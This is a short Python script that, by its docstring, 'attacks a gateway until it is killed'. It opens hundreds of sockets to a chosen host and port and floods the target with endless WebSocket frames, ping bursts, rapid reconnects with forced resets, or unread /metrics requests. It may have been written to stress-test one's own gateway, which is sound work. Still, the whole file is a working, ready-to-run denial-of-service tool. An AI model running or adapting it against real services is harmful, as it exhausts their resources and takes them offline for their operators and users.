"""Attacks a gateway until it is killed: attack.py KIND HOST:PORT."""
import selectors
import socket
import sys

attack, address = sys.argv[1:]
host, port = address.rsplit(":", 1)
upgrade = (
    b"GET /stream HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
)
metrics = b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n"


def frame(first, payload=b""):
    # A mask of zeros.
    return bytes([first, 0x80 | len(payload), 0, 0, 0, 0]) + payload


# How many clients, what each sends first, what it sends then, and how often: None is without end.
count, begin, message, times = {
    # Streams that send as much as is taken.
    "empty": (100, upgrade, frame(0x81), None),
    "byte": (100, upgrade, frame(0x81, b"x"), None),
    "ping": (100, upgrade, frame(0x89), None),
    "pong": (100, upgrade, frame(0x8A), None),
    "fragments": (100, upgrade + frame(0x01), frame(0x00), None),
    # Streams that send 500 pings, wait for the answers and come again.
    "streams": (100, upgrade, frame(0x89), 500),
    # Clients that send nothing and come again.
    "connections": (100, b"", b"", 0),
    # Clients that ask again and again and read no answer.
    "metrics": (200, b"", metrics, None),
}[attack]
block = message * (65536 // len(message)) if times is None else b""
first = begin + (block if times is None else message * times)
is_deaf = attack == "metrics"
selector = selectors.DefaultSelector()


def open_one():
    client = socket.create_connection((host, int(port)))
    # Otherwise the ports of this machine are used up.
    client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
    client.setblocking(False)
    # The rest of what is being sent, and the answers that are missing until it comes again.
    selector.register(client, selectors.EVENT_WRITE | (0 if is_deaf else selectors.EVENT_READ), [first, 2 * (times or 0)])


def again(client):
    selector.unregister(client)
    client.close()
    open_one()


for _ in range(count):
    open_one()
while True:
    for key, events in selector.select():
        client, left = key.fileobj, key.data
        try:
            if events & selectors.EVENT_READ:
                came = client.recv(65536)
                left[1] -= len(came)
                if not came or times and left[1] <= 0:
                    again(client)
                    continue
            if events & selectors.EVENT_WRITE:
                if times == 0:
                    again(client)
                    continue
                left[0] = left[0][client.send(left[0]) :] or block
                if not left[0]:
                    selector.modify(client, selectors.EVENT_READ, left)
        except BlockingIOError:
            pass
        except OSError:
            again(client)
